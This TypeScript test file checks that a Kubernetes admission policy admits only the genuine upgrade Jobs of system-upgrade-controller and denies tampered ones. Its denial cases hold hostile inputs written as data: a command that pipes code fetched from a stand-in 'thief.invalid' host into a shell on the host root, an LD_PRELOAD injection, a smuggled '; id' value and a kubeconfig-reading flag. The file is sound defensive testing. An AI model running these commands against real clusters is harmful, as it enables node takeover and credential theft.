import { strict as assert } from "assert";
import { admissionOutcome } from "../../policies/security/admission-policies";
import { kubernetesDocuments } from "../../plan/report";
import { committedPlan, planAdmissionPolicies } from "../helpers";

/**
 * system-upgrade-controller's admission policy, as the dev plan renders it. Each Job is built from
 * the plan's own Plans the way rancher/system-upgrade-controller@v0.20.1 builds it (pkg/upgrade/job/job.go
 * New, pkg/upgrade/container/container.go New, plan.go MungeVersion), so the fence is judged against
 * what the controller would really send; a Job of a thief's own, a relabelled node and another CRD are
 * denied (threat-model review s23 F8).
 */
const SUC = "system:serviceaccount:system-upgrade:system-upgrade";

/** A Plan's container, as container.go New and its options make it. */
function container(name: string, spec: any, plan: any, latest: string, image = spec.image): Record<string, unknown> {
    const tagged = image.includes(":") ? image : `${image}:${latest}`;
    return {
        name, image: tagged,
        ...(spec.command ? { command: spec.command } : {}),
        ...(spec.args ? { args: spec.args } : {}),
        volumeMounts: [{ name: "host-root", mountPath: "/host" }, { name: "pod-info", mountPath: "/run/system-upgrade/pod", readOnly: true }],
        env: [
            { name: "SYSTEM_UPGRADE_NODE_NAME", valueFrom: { fieldRef: { fieldPath: "spec.nodeName" } } },
            { name: "SYSTEM_UPGRADE_POD_NAME", valueFrom: { fieldRef: { fieldPath: "metadata.name" } } },
            { name: "SYSTEM_UPGRADE_POD_UID", valueFrom: { fieldRef: { fieldPath: "metadata.uid" } } },
            ...(spec.envs ?? []),
            { name: "SYSTEM_UPGRADE_PLAN_NAME", value: plan.metadata.name },
            { name: "SYSTEM_UPGRADE_PLAN_LATEST_HASH", value: "3f1c0d" },
            { name: "SYSTEM_UPGRADE_PLAN_LATEST_VERSION", value: latest },
        ],
        imagePullPolicy: "IfNotPresent",
        // What the API server defaults before admission.
        resources: {}, terminationMessagePath: "/dev/termination-log", terminationMessagePolicy: "File",
    };
}

/** The Job job.go New makes of a Plan for one node, with the controller's kubectl image. */
function jobOf(plan: any, node: string, kubectlImage: string): Record<string, unknown> {
    const latest = String(plan.spec.version).replace(/\+/g, "-");
    const drain = plan.spec.drain;
    const drainArgs = ["drain", node, "--pod-selector", "!upgrade.cattle.io/controller", "--ignore-daemonsets", "--delete-emptydir-data", ...(drain.force ? ["--force"] : []),
        "--timeout", drain.timeout, ...(drain.disableEviction ? ["--disable-eviction=true"] : []), ...(drain.skipWaitForDeleteTimeout > 0 ? ["--skip-wait-for-delete-timeout", String(drain.skipWaitForDeleteTimeout)] : [])];
    return {
        metadata: { name: `apply-${plan.metadata.name}-on-${node}-with-3f1c0d`, namespace: plan.metadata.namespace, labels: { "upgrade.cattle.io/plan": plan.metadata.name } },
        spec: {
            backoffLimit: 0, completions: 1, parallelism: 0,
            template: {
                metadata: { labels: { "upgrade.cattle.io/plan": plan.metadata.name } },
                spec: {
                    hostIPC: true, hostPID: true, hostNetwork: true, dnsPolicy: "ClusterFirstWithHostNet", serviceAccountName: plan.spec.serviceAccountName,
                    tolerations: [{ key: "node.kubernetes.io/unschedulable", operator: "Exists", effect: "NoSchedule" }, ...plan.spec.tolerations],
                    restartPolicy: "Never",
                    volumes: [{ name: "host-root", hostPath: { path: "/", type: "Directory" } }, { name: "pod-info", downwardAPI: { defaultMode: 420, items: [{ path: "labels", fieldRef: { fieldPath: "metadata.labels", apiVersion: "v1" } }] } }],
                    initContainers: [
                        container("prepare", plan.spec.prepare, plan, latest),
                        container("drain", { image: kubectlImage, args: drainArgs }, plan, latest),
                    ],
                    containers: [{ ...container("upgrade", plan.spec.upgrade, plan, latest), securityContext: { privileged: true, capabilities: { add: ["CAP_SYS_BOOT"] } } }],
                },
            },
        },
    };
}

describe("system-upgrade-controller's admission policy", () => {
    let policies: { type: string; props: any }[];
    let plans: any[];
    let kubectlImage: string;
    before(async () => {
        policies = await planAdmissionPolicies("dev");
        const documents = kubernetesDocuments((await committedPlan("dev")).resources) as any[];
        plans = documents.filter((d) => d.kind === "Plan");
        kubectlImage = documents.find((d) => d.kind === "ConfigMap" && d.metadata?.name === "default-controller-env").data.SYSTEM_UPGRADE_JOB_KUBECTL_IMAGE;
    });
    const createJob = (object: Record<string, unknown>) => admissionOutcome(policies, { group: "batch", version: "v1", resource: "jobs", operation: "CREATE", namespace: "system-upgrade", name: "apply", username: SUC, object });
    const agentJob = () => jobOf(plans.find((p) => p.metadata.name === "k3s-agent"), "oci-agent-1", kubectlImage) as any;

    it("admits the Jobs the controller makes of both Plans, and their unpausing", () => {
        assert.deepEqual(plans.map((p) => p.metadata.name).sort(), ["k3s-agent", "k3s-server"]);
        for (const plan of plans) {
            const job = jobOf(plan, "oci-server-1", kubectlImage) as any;
            assert.deepEqual(createJob(job), { denied: false }, plan.metadata.name);
            const unpaused = { ...job, spec: { ...job.spec, parallelism: 1 } };
            assert.equal(admissionOutcome(policies, { group: "batch", version: "v1", resource: "jobs", operation: "UPDATE", namespace: "system-upgrade", name: "apply", username: SUC, oldObject: job, object: unpaused }).denied, false);
        }
    });

    it("denies a Job running a command, image, environment, hook or flag of another's", () => {
        const job = agentJob();
        const upgrade = job.spec.template.spec.containers[0];
        const withUpgrade = (change: object) => ({ ...job, spec: { ...job.spec, template: { ...job.spec.template, spec: { ...job.spec.template.spec, containers: [{ ...upgrade, ...change }] } } } });
        const denied = createJob(withUpgrade({ command: ["/bin/sh", "-c", "chroot /host sh -c 'curl thief.invalid | sh'"] }));
        assert.deepEqual(denied, { denied: true, by: "groundwork-system-upgrade-controller", message: "system-upgrade-controller may run only its Plans' upgrade Jobs in system-upgrade: their containers in order, with their images, commands, flags, environment and mounts exactly, in the host's namespaces, as system-upgrade" });
        assert.equal(createJob(withUpgrade({ image: "busybox:1.37" })).denied, true, "another image");
        assert.equal(createJob(withUpgrade({ image: "rancher/k3s-upgrade:v1.33.1-k3s1" })).denied, true, "another k3s version");
        assert.equal(createJob(withUpgrade({ env: [...upgrade.env, { name: "LD_PRELOAD", value: "/host/tmp/x.so" }] })).denied, true, "LD_PRELOAD");
        assert.equal(createJob(withUpgrade({ env: upgrade.env.map((e: any) => e.name === "ROLLBACK" ? { ...e, value: "never" } : e) })).denied, true, "ROLLBACK changed");
        assert.equal(createJob(withUpgrade({ env: upgrade.env.filter((e: any) => e.name !== "ROLLBACK") })).denied, true, "ROLLBACK left out (security review s24b F3)");
        assert.equal(createJob(withUpgrade({ env: upgrade.env.filter((e: any) => e.name !== "SYSTEM_UPGRADE_PLAN_NAME") })).denied, true, "the Plan's name left out");
        assert.equal(createJob(withUpgrade({ lifecycle: { postStart: { exec: { command: ["sh", "-c", "id"] } } } })).denied, true, "a postStart hook");
        assert.equal(createJob(withUpgrade({ envFrom: [{ secretRef: { name: "x" } }] })).denied, true, "envFrom");
        const drain = job.spec.template.spec.initContainers[1];
        const withDrainArgs = (args: string[]) => ({ ...job, spec: { ...job.spec, template: { ...job.spec.template, spec: { ...job.spec.template.spec, initContainers: [job.spec.template.spec.initContainers[0], { ...drain, args }] } } } });
        assert.equal(createJob(withDrainArgs(drain.args)).denied, false, "the drain as built");
        assert.equal(createJob(withDrainArgs(["drain", "--kubeconfig=/host/etc/rancher/k3s/k3s.yaml", ...drain.args.slice(2)])).denied, true, "a flag in the node's place");
        assert.equal(createJob(withDrainArgs(["exec", "oci-agent-1", ...drain.args.slice(2)])).denied, true, "another kubectl command");
        assert.equal(createJob({ ...job, spec: { ...job.spec, template: { ...job.spec.template, spec: { ...job.spec.template.spec, serviceAccountName: "default" } } } }).denied, true, "another account");
        assert.equal(admissionOutcome(policies, { group: "batch", version: "v1", resource: "jobs", operation: "CREATE", namespace: "kube-system", name: "apply", username: SUC, object: job }).denied, true, "another namespace");
    });

    it("admits a cordon, an uncordon and its Plan's label on a node, and denies any other change", () => {
        const node = (labels: Record<string, string> = {}, spec: object = {}) => ({ metadata: { name: "oci-agent-1", labels: { "groundwork.dev/pool": "platform", ...labels }, annotations: { "flannel.alpha.coreos.com/public-ip": "10.0.1.5" } }, spec: { podCIDR: "10.42.1.0/24", ...spec } });
        const update = (after: object, before: object = node()) => admissionOutcome(policies, { group: "", version: "v1", resource: "nodes", operation: "UPDATE", namespace: "", name: "oci-agent-1", username: SUC, oldObject: before as any, object: after as any });
        assert.equal(update(node({}, { unschedulable: true })).denied, false, "cordon");
        assert.equal(update(node({ "plan.upgrade.cattle.io/k3s-agent": "3f1c0d" }), node({}, { unschedulable: true })).denied, false, "labelled and uncordoned");
        assert.deepEqual(update(node({ "groundwork.dev/pool": "gpu" })), { denied: true, by: "groundwork-system-upgrade-controller", message: "system-upgrade-controller may only cordon and uncordon a node and set its plan.upgrade.cattle.io/* labels, never change its other labels, annotations or taints" });
        assert.equal(update(node({}, { taints: [{ key: "x", effect: "NoExecute" }] })).denied, true, "a taint");
        assert.equal(update({ ...node(), metadata: { ...node().metadata, annotations: { "flannel.alpha.coreos.com/public-ip": "203.0.113.9" } } }).denied, true, "flannel's address");
        assert.equal(update({ ...node(), metadata: { ...node().metadata, finalizers: ["thief.invalid/keep"] } }).denied, true, "a finalizer (review s24 N3)");
    });

    it("admits its own CRD and denies another, or its own with a conversion webhook (review s24 N4)", () => {
        const crd = (name: string, strategy: string) => admissionOutcome(policies, { group: "apiextensions.k8s.io", version: "v1", resource: "customresourcedefinitions", operation: "UPDATE", namespace: "", name, username: SUC, oldObject: { metadata: { name } }, object: { metadata: { name }, spec: { conversion: { strategy } } } });
        assert.equal(crd("plans.upgrade.cattle.io", "None").denied, false);
        assert.equal(crd("plans.upgrade.cattle.io", "Webhook").denied, true);
        assert.equal(crd("certificates.cert-manager.io", "None").denied, true);
    });

    it("denies a Job whose pod leaves the host's namespaces, mounts into a pod's volume, or reorders its steps (review s24 R1, N1, N2)", () => {
        const job = agentJob();
        const pod = job.spec.template.spec;
        const withPod = (change: object) => ({ ...job, spec: { ...job.spec, template: { ...job.spec.template, spec: { ...pod, ...change } } } });
        const upgrade = pod.containers[0];
        const [prepare, drain] = pod.initContainers;
        assert.equal(createJob(withPod({})).denied, false, "as built");
        assert.equal(createJob(withPod({ hostPID: false })).denied, true, "out of the host's PID namespace");
        const subPath = { ...upgrade, volumeMounts: [{ name: "host-root", mountPath: "/host", subPath: "var/lib/kubelet/pods/u/volumes/kubernetes.io~empty-dir/x" }, upgrade.volumeMounts[1]] };
        assert.equal(createJob(withPod({ containers: [subPath] })).denied, true, "a subPath into a pod's volume");
        assert.equal(createJob(withPod({ containers: [{ ...upgrade, workingDir: "/host/tmp" }] })).denied, true, "a field SUC never sets");
        assert.equal(createJob(withPod({ initContainers: [] })).denied, true, "the upgrade without its prepare and drain");
        assert.equal(createJob(withPod({ initContainers: [drain, prepare] })).denied, true, "the steps reordered");
        assert.equal(createJob(withPod({ initContainers: [prepare, { ...drain, args: [...drain.args.slice(0, 2), ...drain.args.slice(4), ...drain.args.slice(2, 4)] }] })).denied, true, "the drain's flags reordered");
        assert.equal(createJob(withPod({ initContainers: [prepare, { ...drain, args: ["drain", "oci-agent-1", "--ignore-daemonsets", "--ignore-daemonsets", ...drain.args.slice(4)] }] })).denied, true, "the controller's selector dropped");
        assert.equal(createJob(withPod({ nodeName: "oci-server-1" })).denied, true, "a node named past the scheduler");
        const env = (name: string, value: object) => ({ ...upgrade, env: upgrade.env.map((e: any) => (e.name === name ? { name, ...value } : e)) });
        assert.equal(createJob(withPod({ containers: [env("SYSTEM_UPGRADE_NODE_NAME", { value: "server-1; id" })] })).denied, true, "the node's name not from the pod");
        assert.equal(createJob(withPod({ containers: [env("SYSTEM_UPGRADE_PLAN_LATEST_VERSION", { value: "v1.33.1-k3s1" })] })).denied, true, "another version");
        assert.equal(createJob(withPod({ containers: [env("SYSTEM_UPGRADE_PLAN_NAME", { value: "k3s-server" })] })).denied, true, "the agent's prepare under the server's name");
    });
});
